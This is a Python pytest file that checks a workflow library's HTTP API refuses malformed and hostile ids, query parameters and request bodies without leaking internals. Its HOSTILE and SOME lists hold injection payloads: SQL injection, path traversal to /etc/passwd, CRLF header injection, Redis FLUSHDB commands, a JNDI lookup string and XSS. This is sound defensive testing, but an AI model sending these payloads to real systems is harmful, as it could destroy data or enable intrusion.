"""What nobody should send, on every route: each is answered with a problem of the sender's, never with one of ours.

Ids and names that are meant for a database, a stream, a terminal or a file system; parameters that do not exist or are
of another type; bodies that are no JSON, too large, too deep, or of another shape.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import msgspec
import pytest
from msgspec import Struct

from perdure import Perdure, action, event, workflow
from perdure.http.api import ALL, api
from perdure.http.route import Nothing, Route
from tests.http.every import QUERIES, body_of, path_of, place_of
from tests.http.test_api import Door, People

#: As they are meant to be read at the other end; in a path or a query they are percent-encoded.
HOSTILE = [
    "\x00",
    "h1\x00",
    "h1\r\nX-Evil: 1",
    "h1\nset x 1\r\n",
    "\x1b[2J",
    "\x7f",
    "..",
    "../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2f",
    "/",
    "//evil.example/",
    "h1/../h2",
    " ",
    "h1 ",
    "' or '1'='1",
    "h1'; drop table events; --",
    'h1" or ""="',
    "1 union select null,null--",
    "%' or 1=1 --",
    "_%",
    "$1",
    "$$;select pg_sleep(9);$$",
    "h1\\'",
    "*\r\n$7\r\nFLUSHDB\r\n",
    "h1*",
    "[a-z]*",
    "{h1}",
    "return redis.call('flushall')",
    "tenant/other/h1",
    "audit:acme",
    "lock:",
    "\u202eh1",
    "h\u0131",
    "\u00e9" * 50,
    "\U0001f4a5",
    "\ufffe",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "x" * 201,
    "x" * 5_000,
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "__proto__",
    "null",
    "-1",
    "NaN",
    "1e999",
]
PATHS = [one for one in ALL if one.names]
WITH_BODY = [one for one in ALL if one.body is not Nothing and one.body is not bytes]


@workflow(name="bad-line", events={"go": str})
async def line(what: str = "") -> str:
    workflow.publish(stage=what)
    return await event("go", str)


@action(name="bad.charge", external=True, queue="bad-node")
async def charge(card: str) -> str: ...  # type: ignore[empty-body]


class Problem(Struct, forbid_unknown_fields=True):
    type: str
    title: str
    status: int
    detail: str
    instance: str
    execution: str = ""
    problems: list[dict[str, Any]] = []


@pytest.fixture(params=["memory", "sqlite", "postgres"])
def url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "postgres":
        return str(request.getfixturevalue("postgres"))
    return "memory://" if request.param == "memory" else f"sqlite:///{tmp_path}/all.db"


def served(test: Callable[[Door], Awaitable[None]], url: str = "memory://") -> None:
    async def unharmed(door: Door) -> None:
        await test(door)
        # Whatever it was, the execution is there as it was, and the API answers.
        assert (await door("GET", "/v1/executions/h1")).json()["version"] == 1

    served_freely(unharmed, url)


def served_freely(test: Callable[[Door], Awaitable[None]], url: str) -> None:
    async def main() -> None:
        app = Perdure(url, api_bytes=100_000)
        transport = httpx.ASGITransport(app=api(app, People()))
        async with (
            asyncio.timeout(100),
            app,
            httpx.AsyncClient(transport=transport, base_url="http://test") as client,
        ):
            door = Door(app, client)
            await app.start(line, "canary", id="h1", tenant="acme")
            await test(door)

    asyncio.run(main())


def refused(answer: httpx.Response, *where: Any) -> Problem:
    """A problem of the sender's that tells nothing of the inside."""
    assert 400 <= answer.status_code < 500, (answer.status_code, answer.text, *where)
    assert answer.headers["content-type"] == "application/problem+json", where
    told = msgspec.json.decode(answer.content, type=Problem)
    assert told.status == answer.status_code and told.type.startswith("urn:perdure:problem:"), where
    assert told.title and told.detail, where
    for inside in ("Traceback", 'File "', ".py", "site-packages", "sqlite3", "asyncpg", "psycopg", "postgresql://"):
        assert inside not in answer.text, (answer.text, *where)
    return told


def answered(answer: httpx.Response, *where: Any) -> None:
    """Well, or with a problem of the sender's; nothing else."""
    if answer.status_code >= 300:
        refused(answer, *where)
    assert '"status":5' not in answer.text, (answer.text, *where)  # one of many in a batch


def encoded(text: str) -> str:
    """For a path: dots, too, or else the client takes some parts of a path away."""
    return quote(text, safe="").replace(".", "%2E")


# In the path


def test_an_id_that_can_be_none_is_refused_on_every_route_that_takes_one(url: str) -> None:
    async def main(door: Door) -> None:
        for one in PATHS:
            for text in HOSTILE:
                for name in one.names:
                    named = dict.fromkeys(one.names, "h1") | {name: encoded(text)}
                    answer = await door(one.method, path_of(one, **named), body_of(one))
                    refused(answer, one.method, one.path, text)
                    assert "canary" not in answer.text

    served(main, url)


def test_without_an_id_no_route_that_takes_one_is_reached() -> None:
    async def main(door: Door) -> None:
        for one in PATHS:
            for name in one.names:
                named = dict.fromkeys(one.names, "h1") | {name: ""}
                answer = await door(one.method, path_of(one, **named), body_of(one))
                told = refused(answer, one.method, one.path)
                assert told.status in (404, 405) and "canary" not in answer.text, (one.method, one.path)

    served(main)


def test_a_slash_more_leads_nowhere_and_not_to_another_host() -> None:
    async def main(door: Door) -> None:
        for one in ALL:
            path = path_of(one).partition("?")[0]
            answer = await door(one.method, f"{path}/", body_of(one), host="evil.example")
            refused(answer, one.method, path)
            assert "evil.example" not in str(answer.headers)

    served(main)


# In the query

#: A few of each sort, for places of which there are many.
SOME = [
    "",
    "noon",
    "-1",
    "99999999999999999999",
    "1e999",
    "NaN",
    "true",
    "h1\x00",
    "h1\r\nX-Evil: 1",
    "../../etc/passwd",
    "' or '1'='1",
    '") or 1=1 --',
    "$$;select pg_sleep(9);$$",
    "*\r\n$7\r\nFLUSHDB\r\n",
    "\U0001f4a5",
    "x" * 5_000,
]


def _place(one: Route) -> str:
    """Where there is something, except where the answer would never end."""
    return path_of(one) if one.path.endswith("/stream") else path_of(one, id="h1", event_id="h1")


@pytest.mark.parametrize("name", ["nonsense", "Limit", "limit[]", "limit%00", "tenant", "__class__", "a.b.c", ""])
def test_a_parameter_that_does_not_exist_is_refused_on_every_route(name: str) -> None:
    async def main(door: Door) -> None:
        for one in ALL:
            path = _place(one)
            answer = await door(one.method, f"{path}{'&' if '?' in path else '?'}{name}=1", body_of(one))
            assert refused(answer, one.method, one.path).status in (400, 401, 422)

    served(main)


def test_no_value_of_a_parameter_makes_the_server_fail(url: str) -> None:
    async def main(door: Door) -> None:
        for one in ALL:
            if one.query is Nothing:
                continue
            for field in one.query.__struct_fields__:
                for text in SOME:
                    path = _place(one).partition("?")[0]
                    more = "" if field == "name" else QUERIES.get(place_of(one), "")
                    query = f"{field}={quote(text)}&{more}".rstrip("&")
                    answered(await door(one.method, f"{path}?{query}", body_of(one)), one.path, query)
                    if field in one.lists:
                        continue
                    twice = await door(one.method, f"{path}?{query}&{field}=2", body_of(one))
                    refused(twice, one.path, query)

    served(main, url)


def test_no_name_and_no_value_of_a_published_field_finds_more_than_it_says(url: str) -> None:
    async def main(door: Door) -> None:
        async with door.app.working():
            await door.app.start(line, "canary", id="seen", tenant="acme")
            await door.app.get("seen", "acme").until("waiting")
            assert "seen" in (await door("GET", "/v1/executions?field.stage=canary")).text
        for text in HOSTILE:
            for query in (f"field.{quote(text, safe='')}=canary", f"field.stage={quote(text, safe='')}"):
                answer = await door("GET", f"/v1/executions?{query}")
                answered(answer, query)
                assert "seen" not in answer.text, query

    served_freely(main, url)


# In the body


def _wrong_bodies() -> list[tuple[str, bytes, dict[str, str]]]:
    as_json = {"content-type": "application/json"}
    deep = b"[" * 65 + b"]" * 65
    found = [
        b"",
        b"{",
        b"nul",
        b"'x'",
        b"\xff\xfe",
        b"\xef\xbb\xbf{}",
        b"{} {}",
        b"NaN",
        b"[Infinity]",
        b'{"a": 1, "a": 2}',
        b'"\\ud800"',
        b'{"x": "\\u0000"}',
        b"[123456789012345678901234567890]",
        deep,
        b'{"payload": ' + deep + b"}",
        b"[" * 50_000,
        b'"x"',
        b"1",
        b"null",
        b"true",
        b"[1]",
        b"[]",
        b'{"nonsense": 1}',
        b"[" + b'"x",' * 30_000 + b'"x"]',
    ]
    media = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/xml", "json"]
    return [
        *((f"{data[:20]!r}", data, as_json) for data in found),
        *((one, b"{}", {"content-type": one}) for one in media),
        ("charset", b"{}", {"content-type": "application/json; charset=utf-16"}),
        ("gzip", b"{}", {**as_json, "content-encoding": "gzip"}),
    ]


WRONG = _wrong_bodies()


@pytest.mark.parametrize(("data", "said"), [one[1:] for one in WRONG], ids=[one[0] for one in WRONG])
def test_a_body_that_is_none_is_refused_on_every_route_that_takes_one(data: bytes, said: dict[str, str]) -> None:
    async def main(door: Door) -> None:
        for one in WITH_BODY:
            headers = {"authorization": f"Bearer {door.who}", **said}
            answer = await door.client.request(one.method, _place(one), content=data, headers=headers)
            assert refused(answer, one.method, one.path).status in (400, 413, 415, 422)

    served(main)


@pytest.mark.parametrize("one", [one for one in ALL if one.body is Nothing], ids=lambda one: f"{one.method} {one.path}")
def test_a_body_where_none_is_taken_is_not_read(one: Route) -> None:
    async def main(door: Door) -> None:
        headers = {"authorization": f"Bearer {door.who}", "content-type": "application/json"}
        with_it = await door.client.request(one.method, path_of(one), content=b"{" * 200_000, headers=headers)
        without = await door.client.request(one.method, path_of(one), headers=headers)
        assert with_it.status_code == without.status_code < 500

    served(main)


#: Bodies that get further than those which are about nothing.
REAL: dict[str, dict[str, Any]] = {
    "/v1/executions": {
        "workflow": "bad-line",
        "args": ["x"],
        "callback": {"url": "https://a.example", "secret": "secret://x"},
    },
    "/v1/schedules": {"name": "x", "workflow": "bad-line", "args": [], "cron": "0 9 * * *"},
    "/v1/external/poll": {"queue": "bad-node", "wait": "0s"},
    "/v1/hooks": {"name": "x", "does": {"do": "start", "workflow": "bad-line"}, "secret": "secret://x"},
    "/v1/bulk": {"act": "send", "event": "go", "all": True, "dry_run": True, "filter": {"workflow": "bad-line"}},
    "/v1/dead/redrive": {"ids": [], "cause": "limit", "workflow": "bad-line"},
    "/v1/dead/purge": {"ids": [], "cause": "limit", "workflow": "bad-line"},
}
VALUES: list[Any] = [None, True, -1, 0, 2**63 - 1, 2**64 - 1, 1.5, -1e300, [], [[]], ["x"], {}, {"x": {}}, *SOME]


def _fields(one: Route) -> list[str]:
    fields = getattr(one.body, "__struct_fields__", ())
    return [str(field) for field in fields] or [
        "specversion",
        "type",
        "source",
        "id",
        "data",
        "time",
        "datacontenttype",
    ]


def test_no_value_in_a_body_makes_the_server_fail(url: str) -> None:
    """Each field of each body has each of these values once, also those that are of another type."""

    async def main(door: Door) -> None:
        for one in WITH_BODY:
            whole = REAL.get(one.path, body_of(one))
            base = whole[0] if isinstance(whole, list) else whole
            for field in _fields(one) if not isinstance(whole, list) else ["name", "payload", "id"]:
                for value in VALUES:
                    body: Any = {**base, field: value}
                    body = [body] if isinstance(whole, list) else body
                    answer = await door(one.method, _place(one), body)
                    answered(answer, one.method, one.path, json.dumps(body)[:300])

    served_freely(main, url)
